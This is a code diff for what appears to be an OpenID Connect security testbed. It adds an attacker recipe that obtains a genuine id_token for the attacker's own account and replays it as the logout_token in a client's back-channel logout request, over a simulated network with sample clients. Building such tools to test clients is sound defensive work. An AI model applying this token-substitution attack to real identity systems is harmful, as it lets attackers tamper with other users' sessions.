@@ -14,6 +14,7 @@ import {
 import {
 	ATTACKER_USER,
 	readJwks,
+	SAMPLE_CLIENTS,
 	redirectLocation,
 	s256,
 	type HttpRequest,
@@ -21,6 +22,7 @@ import {
 } from '../core/index';
 import { forgeFapi } from './fapiAttacker';
 import { forgeEncryptedIdToken } from './attackerJwe';
+import { randomToken } from '../core/random';
 import { forgeJwt, replaceInMessage, requestTokens, responseTokens } from './tokens';
 import type { ForgeRecipe, Intervention, TokenSnapshot, Transport } from './types';
 
@@ -113,6 +115,11 @@ export const RECIPES: Record<ForgeRecipe, RecipeInfo> = {
 		title: 'encrypted forgery',
 		lure: false,
 		does: 'signs an id_token about itself with its own key, under the issuer’s kid, and encrypts it to the client with the client’s public encryption key, as anyone can.'
+	},
+	'id-token-as-logout-token': {
+		title: 'id_token as logout token',
+		lure: false,
+		does: 'signs in to the same client as itself, takes the genuine id_token the issuer gives it, and posts that to the client’s back-channel logout URI as the logout_token.'
 	}
 };
 
@@ -306,6 +313,10 @@ export class Attacker {
 						)
 					: undefined;
 			}
+			case 'id-token-as-logout-token': {
+				if (target?.name !== 'logout_token' || !('method' in message)) return undefined;
+				return swap(await this.#ownIdToken(message.url));
+			}
 			case 'redirect-uri': {
 				if (!('method' in message) || !new URL(message.url).searchParams.has('redirect_uri'))
 					return undefined;
@@ -318,6 +329,34 @@ export class Attacker {
 			case 'dpop-wrong-url':
 				return forgeFapi(recipe, message, ATTACKER_ORIGIN);
 		}
+	}
+
+	/**
+	 * The attacker signs in as itself to the client that owns this back-channel logout URI, asking
+	 * for an id_token straight from the authorization endpoint, and keeps the genuine token it gets.
+	 */
+	async #ownIdToken(logoutUri: string): Promise<string | undefined> {
+		const client = SAMPLE_CLIENTS.find((c) => c.backchannel_logout_uri === logoutUri);
+		const redirectUri = client?.redirect_uris[0];
+		if (!client || !redirectUri) return undefined;
+		const url = new URL('authorize', this.issuer);
+		url.search = new URLSearchParams({
+			response_type: 'id_token',
+			client_id: client.client_id,
+			redirect_uri: redirectUri,
+			scope: 'openid',
+			state: 'attacker-state',
+			nonce: randomToken(16),
+			login_hint: ATTACKER_USER.id
+		}).toString();
+		const response = await this.network.send('attacker', {
+			method: 'GET',
+			url: url.href,
+			headers: []
+		});
+		const location = redirectLocation(response);
+		if (!location) return undefined;
+		return new URLSearchParams(new URL(location).hash.slice(1)).get('id_token') ?? undefined;
 	}
 
 	/** The attacker logs in as itself, with its own PKCE, and keeps the code it gets. */
